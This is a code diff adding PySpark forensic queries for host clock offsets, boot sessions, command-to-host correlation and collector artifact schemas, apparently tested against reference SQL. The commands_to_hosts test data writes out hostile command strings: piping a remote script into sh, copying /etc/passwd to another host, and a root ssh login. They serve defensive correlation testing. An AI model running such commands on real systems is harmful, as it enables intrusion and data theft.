@@ -5,8 +5,10 @@ from __future__ import annotations
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
-from ..operators import blocks, byte_rules, clock, sigma_gates
+from ..extract import logs
+from ..operators import blocks, byte_rules, clock, correlate, sessions, sigma_gates, votes
 from ..operators import timeline as tl
+from ..sources import collector
 from .catalog import query, table
 from .text_queries import RULES
 
@@ -165,3 +167,85 @@ def kernel_clock(spark: SparkSession, sf_dir: str) -> DataFrame:
     pairs = e.where((F.col("event_id") % 3 == 0) & (F.col("host") != 22)).select("host", wall.alias("wall"), "offset_s")
     found = clock.dated(e, clock.boot_instants(pairs, ["host"]), ["host"])
     return found.select("event_id", "host", F.date_format("timestamp_utc", "yyyy-MM-dd HH:mm:ss.SSSSSS").alias("at"))
+
+
+# Hosts whose clocks run at offsets of their own: some state it, all log with it now and then, one contradicts itself.
+_HOSTS = "SELECT *, user_id % 13 AS h, (CAST(user_id % 13 AS INTEGER) - 6) * 3600 AS off FROM events"
+
+
+@query(f"SELECT h AS host, event_id, strftime(ts, '%Y-%m-%d %H:%M:%S') AS at FROM ({_HOSTS})")
+def clocks_by_vote(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Lines without an offset are dated by the offset that their host's other lines speak for."""
+    e = table(spark, sf_dir, "events").select("event_id", (F.col("user_id") % 13).alias("h"), F.date_trunc("second", "ts").alias("ts"))
+    off = (F.col("h") - 6) * 3600
+    shown = lambda seconds: F.date_format(F.timestamp_seconds(F.unix_seconds("ts") + seconds), "yyyy-MM-dd HH:mm:ss")
+    zone = lambda h: F.concat(F.when(h < 6, "-").otherwise("+"), F.lpad(F.abs(h - 6).cast("string"), 2, "0"), F.lit("00"))
+    wrong = F.when(F.col("event_id") % 11 == 0, (F.col("h") + 5) % 13).otherwise(F.col("h"))
+    logged = F.concat(F.replace(shown(off), F.lit(" "), F.lit("T")), zone(wrong), F.lit(" web cron: x"))
+    stated = F.concat(F.lit("       Time zone: Area/City (XXT, "), zone(F.col("h")), F.lit(")"))
+    proof = e.where("event_id % 4 = 0").select("h", logged.alias("line")).unionByName(e.where("h % 2 = 0 AND event_id % 97 = 0").select("h", stated.alias("line")))
+    offsets = votes.decided(votes.offset_evidence(proof, ["h"]), ["h"])
+    bare = e.select("h", F.concat(F.lit("/host/"), F.col("h").cast("string")).alias("path"), F.col("event_id").alias("line_no"), F.concat(shown(off), F.lit(" web app: message")).alias("line"))
+    log = logs.var_log(votes.with_offsets(bare, offsets, ["h"]), host_offset_s=F.col("host_offset_s"))
+    return log.select(F.substring_index("log", "/", -1).cast("long").alias("host"), F.col("line_no").alias("event_id"), F.date_format("timestamp_utc", "yyyy-MM-dd HH:mm:ss").alias("at"))
+
+
+@query("""
+WITH c AS (SELECT event_id, user_id % 40 AS host, (user_id * 7 + event_id) % 55 AS named, event_id % 3 AS kind FROM events)
+SELECT host, named AS named_host, CASE kind WHEN 0 THEN 'h' || named || '.lan' WHEN 1 THEN '10.9.0.' || named ELSE 'h' || named END AS token, count(*) AS n FROM c WHERE named < 40 AND named <> host GROUP BY ALL
+""")
+def commands_to_hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    named = (F.col("user_id") * 7 + F.col("event_id")) % 55
+    said = F.when(F.col("event_id") % 3 == 0, F.format_string("ssh -p 2222 root@h%d.lan 'id'", named)).when(F.col("event_id") % 3 == 1, F.format_string("scp /etc/passwd 10.9.0.%d:/tmp/h.txt", named)).otherwise(F.format_string("curl http://H%d:8080/x.sh|sh", named))
+    c = table(spark, sf_dir, "events").select("event_id", (F.col("user_id") % 40).alias("host"), said.alias("command"))
+    ids = table(spark, sf_dir, "events").select((F.col("user_id") % 40).alias("host")).distinct()
+    ids = ids.select("host", F.explode(F.array(F.format_string("h%d.lan", "host"), F.format_string("10.9.0.%d", "host"), F.format_string("H%d", "host"))).alias("value"))
+    found = correlate.commands_naming_hosts(c, ids, ["event_id"])
+    return found.groupBy("host", "named_host", "token").agg(F.count("*").alias("n"))
+
+
+@query("""
+WITH b AS (SELECT user_id, ts FROM events WHERE event_type = 'signup'), r AS (SELECT event_id, user_id, ts FROM events WHERE event_type <> 'signup'),
+s AS (SELECT r.event_id, r.user_id, (SELECT max(b.ts) FROM b WHERE b.user_id = r.user_id AND b.ts <= r.ts) AS boot, (SELECT max(b.ts) FROM b WHERE b.user_id = r.user_id) AS last FROM r)
+SELECT user_id, strftime(boot, '%Y-%m-%d %H:%M:%S.%f') AS boot, coalesce(boot = last, false) AS newest, count(*) AS n FROM s GROUP BY ALL
+""")
+def rows_by_boot(spark: SparkSession, sf_dir: str) -> DataFrame:
+    e = table(spark, sf_dir, "events").select("event_id", "user_id", "ts", "event_type")
+    rows = sessions.boot_segments(e.where("event_type <> 'signup'"), e.where("event_type = 'signup'"), ["user_id"], "ts")
+    return rows.groupBy("user_id", F.date_format("boot", "yyyy-MM-dd HH:mm:ss.SSSSSS").alias("boot"), "newest").agg(F.count("*").alias("n"))
+
+
+@query("""
+WITH m AS (SELECT DISTINCT user_id % 500 AS host, ts, CASE event_type WHEN 'signup' THEN 'BOOT' ELSE 'SHUTDOWN' END AS kind FROM events WHERE event_type IN ('signup', 'error')),
+n AS (SELECT *, lead(kind) OVER w AS next_kind, lead(ts) OVER w AS next_ts FROM m WINDOW w AS (PARTITION BY host ORDER BY ts, CASE kind WHEN 'SHUTDOWN' THEN 0 ELSE 1 END))
+SELECT host, strftime(ts, '%Y-%m-%d %H:%M:%S.%f') AS boot, strftime(next_ts, '%Y-%m-%d %H:%M:%S.%f') AS next_boot FROM n WHERE kind = 'BOOT' AND next_kind = 'BOOT'
+""")
+def boots_without_shutdown(spark: SparkSession, sf_dir: str) -> DataFrame:
+    kind = F.when(F.col("event_type") == "signup", "BOOT").when(F.col("event_type") == "error", "SHUTDOWN")
+    e = table(spark, sf_dir, "events").select((F.col("user_id") % 500).alias("host"), "ts", kind.alias("type")).where("type IS NOT NULL")
+    shown = lambda c: F.date_format(c, "yyyy-MM-dd HH:mm:ss.SSSSSS").alias(c)
+    return sessions.unclean_boots(e, ["host"], "ts").select("host", shown("boot"), shown("next_boot"))
+
+
+@query("""
+WITH e AS (SELECT *, 'Linux.' || event_type AS artifact FROM events WHERE event_id % 50 <> 0)
+SELECT artifact, 'id' AS name, 'bigint' AS type, count(*) AS n, CAST(sum(event_id) AS DOUBLE) AS total FROM e GROUP BY ALL
+UNION ALL SELECT artifact, 'value', 'double', count(value), round(sum(round(value, 2)), 2) FROM e GROUP BY ALL
+UNION ALL SELECT artifact, 'big', 'boolean', count(*), CAST(count(*) FILTER (user_id % 2 = 0) AS DOUBLE) FROM e WHERE event_type = 'error' GROUP BY ALL
+UNION ALL SELECT artifact, 'who', 'string', count(*), CAST(sum(length('user ' || user_id)) AS DOUBLE) FROM e GROUP BY ALL
+UNION ALL SELECT '(bad)', 'line', 'string', count(*), NULL FROM events WHERE event_id % 50 = 0
+""")
+def collector_artifacts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Columns that nobody declared, found and typed for each artifact; cut lines are kept apart."""
+    row = F.to_json(F.struct(F.concat(F.lit("Linux."), "event_type").alias("_Source"), F.col("event_id").alias("id"), F.round("value", 2).cast("double").alias("value"), F.when(F.col("event_type") == "error", F.col("user_id") % 2 == 0).alias("big"), F.concat(F.lit("user "), F.col("user_id").cast("string")).alias("who")))
+    line = F.when(F.col("event_id") % 50 == 0, F.substring(row, 1, 20)).otherwise(row)
+    lines = table(spark, sf_dir, "events").select(F.lit("/results.json").alias("path"), F.col("event_id").alias("line_no"), line.alias("line"))
+    rows, bad = collector.parsed(lines, F.try_variant_get("v", "$._Source", "string"))
+    out = bad.agg(F.lit("(bad)").alias("artifact"), F.lit("line").alias("name"), F.lit("string").alias("type"), F.count("*").alias("n"), F.lit(None).cast("double").alias("total"))
+    for artifact, columns in sorted(collector.schemas(rows).items()):
+        t = collector.artifact_table(rows, artifact, {n: k if n != "value" else "DOUBLE" for n, k in columns.items() if n != "_Source"})
+        size = {"string": F.length, "boolean": lambda c: F.col(c).cast("int")}
+        for name, kind in t.dtypes[2:]:
+            total = F.sum(size.get(kind, F.col)(name)).cast("double")
+            out = out.unionByName(t.agg(F.lit(artifact).alias("artifact"), F.lit(name).alias("name"), F.lit(kind).alias("type"), F.count(name).alias("n"), F.round(total, 2).alias("total")))
+    return out
